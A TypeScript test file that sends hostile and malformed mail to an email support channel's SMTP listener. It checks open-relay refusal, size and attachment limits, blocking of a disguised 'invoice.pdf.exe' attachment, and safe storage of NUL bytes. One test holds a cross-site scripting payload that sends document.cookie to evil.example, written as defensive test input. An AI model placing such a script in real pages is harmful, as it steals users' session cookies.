import { createTransport } from "nodemailer";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  createTestContext,
  createWorkspace,
  uniqueEmail,
  type TestContext,
  type WorkspaceFixture,
} from "../../../test/helpers";
import { createEmailChannel, type EmailChannel } from "./email.channel";
import { DEFAULT_EMAIL_SETTINGS } from "./email.config";
import { sendRaw } from "./test-support/mail-sink";

// Hostile and broken mail against the real listener with small limits: each is refused with a
// clear SMTP answer naming the problem, or stored safely, and nothing half-stored is left.
let t: TestContext;
let ws: WorkspaceFixture;
let channel: EmailChannel;
let port: number;
let domain: string;
const LIMITS = {
  ...DEFAULT_EMAIL_SETTINGS,
  maxMessageBytes: 64_000,
  maxAttachments: 3,
  maxAttachmentBytes: 8_000,
  maxRecipients: 5,
};

beforeAll(async () => {
  t = await createTestContext();
  await t.services.agent.warmUp();
  ws = await createWorkspace(t.services, "Northwind Outfitters");
  domain = `${ws.slug}.${LIMITS.inboundDomain}`;
  const s = t.services;
  channel = createEmailChannel({
    ...s,
    settings: LIMITS,
    staff: s.auth,
  });
  // No relay worker: replies stay queued, which is all these tests need to see.
  port = (await channel.start({ listen: { host: "127.0.0.1", port: 0 } })).smtpPort ?? 0;
});
afterAll(async () => {
  await channel?.stop();
  await t?.close();
});

function raw(from: string, body: string, extra: Record<string, string> = {}): string {
  const head = {
    From: from,
    To: `support@${domain}`,
    Subject: "Hello",
    "Message-ID": `<${Math.random().toString(36).slice(2)}@client.example>`,
    Date: "Tue, 3 Mar 2026 09:00:00 +0000",
    "MIME-Version": "1.0",
    ...extra,
  };
  return `${Object.entries(head)
    .map(([k, v]) => `${k}: ${v}`)
    .join(
      "\r\n",
    )}\r\n${extra["Content-Type"] ? "" : "Content-Type: text/plain; charset=utf-8\r\n"}\r\n${body}\r\n`;
}

function withAttachments(from: string, files: { name: string; type: string; bytes: Buffer }[]): string {
  const boundary = "b0undary42";
  const parts = files
    .map(
      (f) =>
        `--${boundary}\r\nContent-Type: ${f.type}; name="${f.name}"\r\nContent-Disposition: attachment; filename="${f.name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${f.bytes.toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n`,
    )
    .join("");
  return raw(
    from,
    `--${boundary}\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n${parts}--${boundary}--`,
    {
      "Content-Type": `multipart/mixed; boundary="${boundary}"`,
    },
  );
}

async function refusal(promise: Promise<unknown>): Promise<{ responseCode?: number; response?: string }> {
  try {
    await promise;
  } catch (error) {
    return error as { responseCode?: number; response?: string };
  }
  throw new Error("the mail was accepted");
}

const messagesFrom = async (address: string) =>
  Number(
    (
      await t.database.query<{ n: string }>(
        "SELECT count(*) AS n FROM messages m JOIN customer_identities i ON i.customer_id = m.customer_id WHERE m.workspace_id = $1 AND i.value = $2",
        [ws.workspaceId, address],
      )
    )[0]?.n,
  );

describe("email: bad input and abuse", () => {
  it("is not an open relay: recipients outside our workspaces are refused at RCPT, and AUTH is not offered", async () => {
    const sender = uniqueEmail();
    const outside = await refusal(
      sendRaw(port, raw(sender, "relay me"), { from: sender, to: ["victim@elsewhere.example"] }),
    );
    expect(outside.responseCode).toBe(550);
    expect(outside.response).toMatch(/EMAIL_RECIPIENT_UNKNOWN/);
    const noWorkspace = await refusal(
      sendRaw(port, raw(sender, "hi"), {
        from: sender,
        to: [`support@no-such-shop.${LIMITS.inboundDomain}`],
      }),
    );
    expect(noWorkspace.responseCode).toBe(550);
    const withAuth = createTransport({
      host: "127.0.0.1",
      port,
      secure: false,
      ignoreTLS: true,
      auth: { user: "a", pass: "b" },
    });
    try {
      const error = await refusal(
        withAuth.sendMail({
          envelope: { from: sender, to: ["victim@elsewhere.example"] },
          raw: raw(sender, "x"),
        }),
      );
      // AUTH is not offered, so the client sends unauthenticated and the relay attempt is refused all the same.
      expect((error as { code?: string }).code).toBe("EENVELOPE");
      expect(error.responseCode).toBe(550);
    } finally {
      withAuth.close();
    }
    expect(await messagesFrom(sender)).toBe(0);
  });

  it("refuses too many recipients, an oversized mail, too many attachments and an oversized attachment, storing nothing", async () => {
    const sender = uniqueEmail("bomb");
    // Recipients past the limit are refused one by one (452): the mail is stored once for the rest.
    const crowd = uniqueEmail("crowd");
    const many = Array.from({ length: 6 }, (_, i) => `support${i}@${domain}`);
    const partial = await sendRaw(port, raw(crowd, "x"), { from: crowd, to: many });
    expect(partial.rejected).toEqual([many[5]]);
    expect(await messagesFrom(crowd)).toBe(2); // the mail and the AI's reply
    const big = await refusal(
      sendRaw(port, raw(sender, "A".repeat(70_000)), { from: sender, to: [`support@${domain}`] }),
    );
    expect(big.responseCode).toBe(552);
    const small = { name: "a.txt", type: "text/plain", bytes: Buffer.from("hello") };
    const fourFiles = await refusal(
      sendRaw(port, withAttachments(sender, [small, small, small, small]), {
        from: sender,
        to: [`support@${domain}`],
      }),
    );
    expect(fourFiles.responseCode).toBe(552);
    expect(fourFiles.response).toMatch(/EMAIL_TOO_MANY_ATTACHMENTS/);
    const oneBig = await refusal(
      sendRaw(
        port,
        withAttachments(sender, [
          { name: "scan.pdf", type: "application/pdf", bytes: Buffer.alloc(9_000, 1) },
        ]),
        {
          from: sender,
          to: [`support@${domain}`],
        },
      ),
    );
    expect(oneBig.response).toMatch(/EMAIL_ATTACHMENT_TOO_LARGE/);
    expect(await messagesFrom(sender)).toBe(0);
  });

  it("stores a dangerous attachment's metadata but never its bytes", async () => {
    const sender = uniqueEmail("exe");
    const { response } = await sendRaw(
      port,
      withAttachments(sender, [
        {
          name: "invoice.pdf.exe",
          type: "application/octet-stream",
          bytes: Buffer.from("MZ\x90\x00 not really"),
        },
        { name: "receipt.pdf", type: "application/pdf", bytes: Buffer.from("%PDF-1.4 tiny") },
      ]),
      { from: sender, to: [`support@${domain}`] },
    );
    const id = /Stored as (msg_\w+)/.exec(response)?.[1];
    const [message] = await t.database.query<{ case_id: string }>(
      "SELECT case_id FROM messages WHERE id = $1",
      [id],
    );
    const stored = await channel.attachmentsOfCase(ws.workspaceId, message?.case_id ?? "");
    expect(stored.map((a) => [a.filename, a.blocked, a.content === null])).toEqual([
      ["invoice.pdf.exe", true, true],
      ["receipt.pdf", false, false],
    ]);
    expect(stored[1]?.content?.toString()).toBe("%PDF-1.4 tiny");
  });

  it("stores script and NUL bytes safely and refuses a mail without a sender", async () => {
    const sender = uniqueEmail("html");
    const html = "<p>Hi</p><script>document.location='https://evil.example/'+document.cookie</script>";
    const { response } = await sendRaw(
      port,
      raw(sender, `${html}\u0000tail`, { "Content-Type": "text/html; charset=utf-8" }),
      { from: sender, to: [`support@${domain}`] },
    );
    const [row] = await t.database.query<{ body: string; metadata: { email: { html: string } } }>(
      "SELECT body, metadata FROM messages WHERE id = $1",
      [/Stored as (msg_\w+)/.exec(response)?.[1]],
    );
    expect(row?.metadata.email.html).toContain("<script>document.location");
    expect(row?.metadata.email.html).toContain("\uFFFDtail");
    const noFrom = raw("", "who am I").replace(/^From: \r\n/, "");
    const refused = await refusal(sendRaw(port, noFrom, { from: "", to: [`support@${domain}`] }));
    expect(refused.response).toMatch(/EMAIL_SENDER_MISSING/);
  });

  it("answers a broken sender address with a permanent refusal, not a crash", async () => {
    const refused = await refusal(
      sendRaw(port, raw("not-an-address@@example..com", "hello"), { from: "", to: [`support@${domain}`] }),
    );
    expect(refused.responseCode).toBeGreaterThanOrEqual(500);
  });
});
